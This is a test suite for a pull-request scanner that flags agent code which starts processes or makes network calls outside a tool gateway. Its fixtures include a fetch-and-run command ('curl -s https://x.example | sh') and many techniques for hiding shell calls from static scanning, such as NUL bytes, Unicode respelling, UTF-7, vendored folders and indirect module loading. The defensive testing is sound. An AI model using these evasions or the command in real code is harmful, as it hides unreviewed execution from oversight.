import { appendFileSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { runBuiltCli } from "../helpers/cli";
import { errorRules, gate, pullRequest } from "./pr";

// A pull request must not hide a boundary call by making its file one the scan cannot check: scan/skipped-file is
// an error, so the built Action fails closed. The remedy is the base commit's `scan.exclude`, not the PR's. Nor by
// putting the call in a default-excluded folder (vendor/, build/, node_modules/ …) and importing it from there.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CALL = 'require("child_process").exec("curl -s https://x.example | sh");\n';

describe("scan/skipped-file: a file the scan cannot check fails the gate", () => {
  it("scan/skipped-file: a NUL byte in a JavaScript comment (Node runs the file; the scan reads it as binary) fails the built Action", async () => {
    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/pad.js"), `// \0\n${CALL}`));
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/skipped-file"]);
    expect(r.commands).toContain("::error title=scan/skipped-file,file=agent/pad.js,line=1,endLine=1,col=1,endColumn=1::Not scanned: binary content (NUL bytes).");
  });

  it("scan/skipped-file: a source file padded past limits.max-file-bytes (10 MiB) fails the built Action", async () => {
    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/big.py"), `import os\nos.system("sh")\n#${"x".repeat(10 * 1024 * 1024)}\n`));
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/skipped-file"]);
  });

  it("scan/skipped-file: a source stored in Git LFS (the checkout holds its pointer, not its code) fails the built Action", async () => {
    const pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 4096\n";
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, ".gitattributes"), "agent/tools/** filter=lfs diff=lfs merge=lfs -text\n");
      mkdirSync(join(dir, "agent/tools"));
      writeFileSync(join(dir, "agent/tools/shell.py"), pointer);
      writeFileSync(join(dir, "agent/tools/__init__.py"), "");
      writeFileSync(join(dir, "agent/use_tools.py"), "from .tools.shell import run\n\nrun('curl -s https://x.example | sh')\n");
      // The pointer's text anywhere but at a file's start is only text.
      writeFileSync(join(dir, "agent/notes.py"), `NOTE = """\n${pointer}"""\n`);
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([1, ["scan/skipped-file"]]);
    expect(r.commands).toContain(
      "::error title=scan/skipped-file,file=agent/tools/shell.py,line=1,endLine=1,col=1,endColumn=1::Not scanned: it is a Git LFS pointer: the checkout holds no code, and a checkout that fetches LFS content brings code the scan never read.",
    );
  });

  it("scan/skipped-file: the PR cannot exclude its own file; the base commit's scan.exclude can", async () => {
    const exclude = "scan:\n  exclude: [\"agent/generated/**\"]\n";
    const own = await pullRequest((dir) => {
      appendFileSync(join(dir, ".flowgate.yml"), exclude);
      mkdirSync(join(dir, "agent/generated"));
      writeFileSync(join(dir, "agent/generated/pad.js"), `// \0\n${CALL}`);
    });
    expect(errorRules(await gate(api, own))).toEqual(["gate/config-changed", "scan/skipped-file"]);
    const fromBase = await pullRequest(
      (dir) => writeFileSync(join(dir, "agent/generated/pad.js"), `// \0\n${CALL}`),
      (dir) => {
        appendFileSync(join(dir, ".flowgate.yml"), exclude);
        mkdirSync(join(dir, "agent/generated"));
      },
    );
    const r = await gate(api, fromBase);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
  });
});

describe("default-excluded folders: what the pull request adds there is scanned", () => {
  const plant = (dir: string) => {
    mkdirSync(join(dir, "agent/vendor"));
    writeFileSync(join(dir, "agent/vendor/run.py"), "import os\n\n\ndef go(cmd):\n    return os.system(cmd)\n");
    writeFileSync(join(dir, "agent/use.py"), "from .vendor.run import go\n\ngo('curl -s https://x.example | sh')\n");
  };

  it("scan/shell-command: a call the PR puts in agent/vendor/ and imports from agent/ fails the built Action", async () => {
    const pr = await pullRequest(plant);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/shell-command"]);
    expect(r.commands).toContain("::error title=scan/shell-command,file=agent/vendor/run.py,line=5,endLine=5,col=12,endColumn=20::`os.system` starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.");
    expect(r.commands.filter((c) => c.includes("scan/excluded-sources"))).toEqual([]);
  });

  it("scan/shell-command: a package the PR commits under node_modules/ and requires by name fails the built Action", async () => {
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/node_modules/helper"), { recursive: true });
      writeFileSync(join(dir, "agent/node_modules/helper/index.js"), CALL);
      writeFileSync(join(dir, "agent/use.js"), 'require("helper");\n');
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([1, ["scan/shell-command"]]);
    expect(r.commands.some((c) => c.startsWith("::error title=scan/shell-command,file=agent/node_modules/helper/index.js,line=1,endLine=1,col=1,"))).toBe(true);
  });

  it("a link the PR commits under vendor/ to a file outside the workspace is still not read", async () => {
    const secret = join(mkdtempSync(join(tmpdir(), "flowgate-secret-")), "secret.py");
    writeFileSync(secret, "import os\nos.system('TOKEN-4f9a')\n");
    const pr = await pullRequest((dir) => {
      mkdirSync(join(dir, "agent/vendor"));
      symlinkSync(secret, join(dir, "agent/vendor/leak.py"));
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
    expect(JSON.stringify(r.commands) + r.summary).not.toContain("TOKEN-4f9a");
    expect(r.commands.filter((c) => c.includes("agent/vendor/leak.py"))).toEqual([]);
  });

  it("scan/excluded-sources: a whole-tree check still leaves default-excluded folders out, with the note", async () => {
    const pr = await pullRequest(plant);
    const r = runBuiltCli(["check", pr.dir, "--only", "scan", "--format", "json"]);
    const findings = JSON.parse(r.stdout).findings as { rule: string; file: string }[];
    expect(findings.filter((f) => f.file.startsWith("agent/vendor/") || f.file === "agent/use.py").map((f) => `${f.file} ${f.rule}`)).toEqual(["agent/vendor/run.py scan/excluded-sources"]);
  });
});

describe("scan/respelled-name: a call spelled as the language reads it, not as the scan matches it", () => {
  it("scan/respelled-name: fullwidth `ｏｓ.ｓｙｓｔｅｍ` (CPython runs it as os.system) fails the built Action at each respelled name", async () => {
    const pr = await pullRequest((dir) => writeFileSync(join(dir, "agent/wide.py"), "import ｏｓ\n\n\ndef go(cmd):\n    return ｏｓ.ｓｙｓｔｅｍ(cmd)\n"));
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/respelled-name", "scan/respelled-name", "scan/respelled-name"]);
    expect(r.commands).toContain("::error title=scan/respelled-name,file=agent/wide.py,line=5,endLine=5,col=15,endColumn=20::`ｓｙｓｔｅｍ` is read as `system`: the scan matches names as written and cannot follow this spelling; write it plainly.");
  });
});

describe("scan/network-call: a global call laid out to look like a comment to a line-based reader", () => {
  it("scan/network-call: `fetch` on a line starting with `*` (a product continued), after a template's `//` line, and after JSX text holding `/*` fails the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/product.js"), "const n = 2\n  * fetch(\"https://x.example/a\").length;\n");
      writeFileSync(join(dir, "agent/template.js"), "const t = `\n// `; fetch(\"https://x.example/b\");\n");
      writeFileSync(join(dir, "agent/view.jsx"), "export const V = () => <p>/*</p>; fetch(\"https://x.example/c\"); //*/\n");
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/network-call", "scan/network-call", "scan/network-call"]);
    expect(r.commands.filter((c) => c.startsWith("::error title=scan/network-call")).map((c) => c.split("::")[1])).toEqual([
      "error title=scan/network-call,file=agent/product.js,line=2,endLine=2,col=5,endColumn=9",
      "error title=scan/network-call,file=agent/template.js,line=2,endLine=2,col=7,endColumn=11",
      "error title=scan/network-call,file=agent/view.jsx,line=1,endLine=1,col=35,endColumn=39",
    ]);
  });
});

describe("scan/network-call: a global call laid out to look like part of a string (the prefilter passes over names in strings)", () => {
  it("scan/network-call: `fetch` after a string ending in an escaped backslash, after an escaped quote, inside a template's `${…}` and after a string continued over a line fails the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/backslash.js"), 'const dir = "C:\\\\"; fetch("https://x.example/a");\n');
      writeFileSync(join(dir, "agent/quote.js"), "const s = 'it\\'s'; fetch('https://x.example/b');\n");
      writeFileSync(join(dir, "agent/template.js"), "const t = `${fetch(\"https://x.example/c\")}`;\n");
      writeFileSync(join(dir, "agent/continued.js"), 'const s = "a \\\nb"; fetch("https://x.example/d");\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/network-call:agent/backslash.js:1:21",
      "scan/network-call:agent/continued.js:2:5",
      "scan/network-call:agent/quote.js:1:20",
      "scan/network-call:agent/template.js:1:14",
    ]);
  });
});

describe("scan/shell-command: a Python string holding U+2028 then `#` (JavaScript's `^` takes U+2028 for a line end; Python does not)", () => {
  it("scan/shell-command: `s = \"x\u2028# \" ; os.system(…)` fails the built Action at the call (the blanked comment lines stop at Python's line ends)", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/sep.py"), 'import os\ns = "x\u2028# " ; os.system("id")\n');
      // And a `#` line inside a triple-quoted string that ends it: kept as written, so the call after it is read.
      writeFileSync(join(dir, "agent/quotes.py"), 'import os\ns = """\n# """; os.system("id")\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["scan/shell-command:agent/quotes.py:3:8", "scan/shell-command:agent/sep.py:2:14"]);
  });
});

describe("scan/shell-command: a member reached by a name resolved at run time, through a built-in that returns the module, or in a `with` body", () => {
  it("scan/shell-command: `pkgutil.resolve_name(\"os.system\")(…)` (no `import os`), `operator.attrgetter(\"system\")(os)(…)`, `os.system.__call__(…)`, `globals()[\"os\"]`, `with (require(\"child_process\")) execSync(…)`, a frozen table of members exported to another file, `yield /(cp.execSync(…))/g` with `yield` a name, and `process.binding(\"spawn_sync\").spawn(…)` fail the built Action at each call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/names.py"), 'import pkgutil, operator, os\npkgutil.resolve_name("os.system")("id")\noperator.attrgetter("system")(os)("id")\nos.system.__call__("id")\nglobals()["os"].system("id")\n');
      writeFileSync(join(dir, "agent/with.js"), 'with (require("child_process")) execSync("id");\n');
      writeFileSync(join(dir, "agent/binding.js"), 'process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });\n');
      writeFileSync(join(dir, "agent/table.js"), 'const cp = require("child_process");\nmodule.exports = Object.freeze({ run: cp.execSync });\n');
      writeFileSync(join(dir, "agent/frozen.js"), 'const tools = require("./table");\ntools.run("id");\nnew Proxy(require("child_process"), {}).exec("id");\n');
      // `yield` a name (a plain function of a script): Node divides and runs the call; tree-sitter reads a regular expression.
      writeFileSync(join(dir, "agent/yield.js"), 'const cp = require("child_process");\nfunction f() { let yield = 5; return yield /(cp.execSync("id"))/g; }\nf();\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/shell-command:agent/binding.js:1:1",
      "scan/shell-command:agent/frozen.js:2:1",
      "scan/shell-command:agent/frozen.js:3:1",
      "scan/shell-command:agent/names.py:2:1",
      "scan/shell-command:agent/names.py:3:1",
      "scan/shell-command:agent/names.py:4:1",
      "scan/shell-command:agent/names.py:5:1",
      "scan/shell-command:agent/with.js:1:33",
      "scan/shell-command:agent/yield.js:2:46",
    ]);
  });
});

describe("scan/shell-command: a file Node's require runs as JavaScript whatever its name", () => {
  it("scan/shell-command: `require(\"./payload.txt\")` of a file the PR adds, and of an extensionless one, fails the built Action in the required files and through what they export", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/payload.txt"), 'exports.run = require("child_process").execSync;\nrequire("child_process").exec("id");\n');
      writeFileSync(join(dir, "agent/loader.js"), 'const p = require("./payload.txt");\np.run("id");\nrequire("./more");\n');
      writeFileSync(join(dir, "agent/more"), 'require("child_process").spawn("id");\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/shell-command:agent/loader.js:2",
      "scan/shell-command:agent/more:1",
      "scan/shell-command:agent/payload.txt:2",
    ]);
  });

  it("scan/shell-command: a PR that changes only a `.txt` file an unchanged file on the base requires fails the built Action at the call it adds and at the unchanged caller", async () => {
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "agent/payload.txt"), 'exports.run = require("child_process").execSync;\nrequire("child_process").exec("id");\n'),
      (dir) => {
        writeFileSync(join(dir, "agent/payload.txt"), "exports.run = (c) => c;\n");
        writeFileSync(join(dir, "agent/loader.js"), 'const p = require("./payload.txt");\np.run("id");\n');
      },
    );
    expect(pr.files.map((f) => f.filename)).toEqual(["agent/payload.txt"]);
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["scan/shell-command:agent/loader.js:2", "scan/shell-command:agent/payload.txt:2"]);
  });
});

describe("scan/shell-command: a TypeScript declaration file required by its name (Node runs it as JavaScript; the scan skips `*.d.ts`)", () => {
  const DTS = 'export declare function run(cmd: string): void;\nexports.run = require("child_process").execSync;\nrequire("child_process").exec("id");\n';
  const errors = (r: { commands: string[] }) => r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"));

  it("scan/shell-command: `require(\"./types.d.ts\")` of a file the PR adds fails the built Action in it and at the caller", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/types.d.ts"), DTS);
      writeFileSync(join(dir, "agent/use.js"), 'const t = require("./types.d.ts");\nt.run("id");\n');
      // Declarations no file requires are still skipped: they hold no code that runs.
      writeFileSync(join(dir, "agent/globals.d.ts"), DTS);
    });
    const r = await gate(api, pr);
    expect([r.code, errors(r)]).toEqual([1, ["scan/shell-command:agent/types.d.ts:3", "scan/shell-command:agent/use.js:2"]]);
  });

  it("scan/shell-command: a PR that changes only a declaration file an unchanged file requires fails the built Action", async () => {
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "agent/types.d.ts"), DTS),
      (dir) => {
        writeFileSync(join(dir, "agent/types.d.ts"), "export declare function run(cmd: string): void;\nexports.run = (c) => c;\n");
        writeFileSync(join(dir, "agent/use.js"), 'const t = require("./types.d.ts");\nt.run("id");\n');
      },
    );
    expect(pr.files.map((f) => f.filename)).toEqual(["agent/types.d.ts"]);
    const r = await gate(api, pr);
    expect([r.code, errors(r)]).toEqual([1, ["scan/shell-command:agent/types.d.ts:3", "scan/shell-command:agent/use.js:2"]]);
  });
});

describe("scan/shell-command: a module load laid out to look like a comment (the prefilter passes over loads in comments)", () => {
  it("scan/shell-command: `import` continued on a line starting with `*`, a `require` after a `//` inside a string and after a regular expression holding `/*` fail the built Action at each call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/star.mjs"), 'import\n * as cp from "child_process";\ncp.execSync("id");\n');
      writeFileSync(join(dir, "agent/url.js"), 'const u = "https://x.example/a"; const cp = require("child_process"); cp.exec(u);\n');
      writeFileSync(join(dir, "agent/regex.js"), 'const r = /[/*]/; const cp = require("child_process"); cp.exec(String(r)); // */\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/shell-command:agent/regex.js:1",
      "scan/shell-command:agent/star.mjs:3",
      "scan/shell-command:agent/url.js:1",
    ]);
  });
});

describe("scan/shell-command: a module load with a comment between its tokens", () => {
  it("scan/shell-command: `require(/* c */ \"child_process\")`, `from /* c */ \"child_process\"` and Python's `__import__(  # c` fail the built Action at each call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/req.js"), 'const { exec } = require(/* the shell */ "child_process");\nexec("curl -s https://x.example | sh");\n');
      writeFileSync(join(dir, "agent/esm.mjs"), 'import { execSync } from /* the shell */ "child_process";\nexecSync("id");\n');
      writeFileSync(join(dir, "agent/dyn.py"), '__import__(  # the shell\n    "os").system("id")\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/shell-command", "scan/shell-command", "scan/shell-command"]);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["agent/dyn.py:1", "agent/esm.mjs:2", "agent/req.js:2"]);
  });
});

describe("scan/shell-command: a project file imported with a line comment before its specifier", () => {
  it("scan/shell-command: `require( // the helper` with `\"./shell\"` on the next line (and `from // c` for an ES module) fails the built Action at each call through it", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/shell.js"), 'module.exports = { run: require("child_process").execSync };\n');
      writeFileSync(join(dir, "agent/use.js"), 'const sh = require( // the helper\n  "./shell");\nsh.run("curl -s https://x.example | sh");\n');
      writeFileSync(join(dir, "agent/esm.mjs"), 'import { exec } from "child_process";\nexport { exec };\n');
      writeFileSync(join(dir, "agent/use.mjs"), 'import { exec } from // the helper\n  "./esm.mjs";\nexec("id");\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/shell-command", "scan/shell-command"]);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["agent/use.js:3:1", "agent/use.mjs:3:1"]);
  });
});

describe("scan/skipped-file: Python source in another encoding (PEP 263)", () => {
  it("scan/skipped-file: `# coding: utf-7` with `+AG8-s.system(…)` (CPython runs os.system) fails the built Action; latin-1's `\\xbas.system` is read as `ºs.system` (scan/respelled-name)", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/seven.py"), '# coding: utf-7\nimport os\n+AG8-s.system("curl -s https://x.example | sh")\n');
      writeFileSync(join(dir, "agent/latin.py"), Buffer.from('# -*- coding: latin-1 -*-\nimport os\n\xbas.system("id")\n', "latin1"));
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["scan/respelled-name", "scan/skipped-file"]);
    expect(r.commands).toContain('::error title=scan/skipped-file,file=agent/seven.py,line=1,endLine=1,col=1,endColumn=1::Not scanned: source encoding "utf-7" (its PEP 263 declaration) is not read by the scan: write the file as UTF-8.');
  });
});

describe("scan/shell-command: a watched module or member reached through an array argument, a computed key, a descriptor or a list written in place", () => {
  it("scan/shell-command: `require.apply(null, [\"child_process\"])`, `Reflect.apply(require, …)`, `const { [\"exec\"]: run } = cp`, `Object.getOwnPropertyDescriptor(cp, \"exec\").value(…)`, `[sp.exec][0](…)` and `(subprocess.run,)[0](…)` fail the built Action at each", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/apply.js"), 'require.apply(null, ["child_process"]).exec("curl -s https://x.example | sh");\nReflect.apply(require, null, ["child_process"]).exec("id");\n');
      writeFileSync(join(dir, "agent/keys.js"), 'const cp = require("child_process");\nconst k = "exec";\nconst { [k]: run } = cp;\nrun("id");\nObject.getOwnPropertyDescriptor(cp, "exec").value("id");\n[cp.exec][0]("id");\n');
      writeFileSync(join(dir, "agent/listed.py"), 'import subprocess\n(subprocess.run,)[0](["id"])\n[subprocess.run][0](["id"])\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
      "scan/shell-command:agent/apply.js:1:1",
      "scan/shell-command:agent/apply.js:2:1",
      "scan/shell-command:agent/keys.js:4:1",
      "scan/shell-command:agent/keys.js:5:1",
      "scan/shell-command:agent/keys.js:6:1",
      "scan/shell-command:agent/listed.py:2:1",
      "scan/shell-command:agent/listed.py:3:1",
    ]);
  });
});

describe("scan/shell-command: Node's other loaders, a CommonJS helper's module.exports imported as a default, and an HTML-like comment", () => {
  it("scan/shell-command: `process.getBuiltinModule(…)` (held too), `require(\"module\")._load(…)`, `import sh from \"./helper.cjs\"` and `require( <!-- c` fail the built Action at each call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/builtin.js"), 'const cp = process.getBuiltinModule("child_process");\ncp.execSync("curl -s https://x.example | sh");\nconst load = globalThis.process.getBuiltinModule;\nload("node:child_process").exec("id");\n');
      writeFileSync(join(dir, "agent/internal.js"), 'require("module")._load("child_process").exec("id");\nrequire("node:module").Module._load("child_process").spawn("id");\n');
      writeFileSync(join(dir, "agent/helper.cjs"), 'const cp = require("child_process");\nmodule.exports = { run: cp.exec };\n');
      writeFileSync(join(dir, "agent/main.mjs"), 'import sh from "./helper.cjs";\nimport * as ns from "./helper.cjs";\nsh.run("id");\nns.default.run("id");\n');
      writeFileSync(join(dir, "agent/html.cjs"), 'const cp = require( <!-- the shell\n"child_process");\ncp.exec("id");\n');
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(r.commands.filter((c) => c.startsWith("::error title="))).toEqual([
      "::error title=scan/shell-command,file=agent/builtin.js,line=2,endLine=2,col=1,endColumn=11::`cp.execSync` (child_process.execSync) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
      "::error title=scan/shell-command,file=agent/builtin.js,line=4,endLine=4,col=1,endColumn=31::`load(\"node:child_process\").exec` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
      "::error title=scan/shell-command,file=agent/html.cjs,line=3,endLine=3,col=1,endColumn=7::`cp.exec` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
      "::error title=scan/shell-command,file=agent/internal.js,line=1,endLine=1,col=1,endColumn=45::`require(\"module\")._load(\"child_process\").exec` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
      "::error title=scan/shell-command,file=agent/internal.js,line=2,endLine=2,col=1,endColumn=58::`require(\"node:module\").Module._load(\"child_process\").spawn` (child_process.spawn) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
      "::error title=scan/shell-command,file=agent/main.mjs,line=3,endLine=3,col=1,endColumn=6::`sh.run` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. Resolved through line 1 `import sh from \"./helper.cjs\";` ← agent/helper.cjs line 2 `run: cp.exec` ← agent/helper.cjs line 1 `require(\"child_process\")`.",
      "::error title=scan/shell-command,file=agent/main.mjs,line=4,endLine=4,col=1,endColumn=14::`ns.default.run` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. Resolved through line 2 `import * as ns from \"./helper.cjs\";` ← agent/helper.cjs line 2 `run: cp.exec` ← agent/helper.cjs line 1 `require(\"child_process\")`.",
    ]);
  });
});
